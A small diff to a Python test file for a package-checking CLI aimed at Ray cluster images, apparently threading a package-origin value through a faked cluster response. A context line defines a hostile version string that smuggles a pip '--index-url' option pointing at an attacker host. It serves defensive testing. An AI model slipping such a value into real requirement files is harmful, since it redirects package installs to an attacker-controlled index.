@@ -11,6 +11,7 @@ import pytest
 
 from doctor.cli import main
 from doctor.head.facts import HeadPackages
+from doctor.origin import PackagesOrigin
 
 IMAGE = ["--image", "rayproject/ray:2.49.2-py312-cpu", "--no-resolve"]
 HOSTILE = "1.26.4\n--index-url http://evil.example/simple"
@@ -72,7 +73,7 @@ def test_report_output_at_a_folder_is_one_line(capsys, here):
 
 def _head_packages(packages: dict[str, str]):
     def fake(self):  # the cluster's answer, as the deep probe would hand it over
-        return HeadPackages(packages, "a hostile dashboard")
+        return HeadPackages(packages, PackagesOrigin.FILE, "a hostile dashboard")
 
     return fake
 
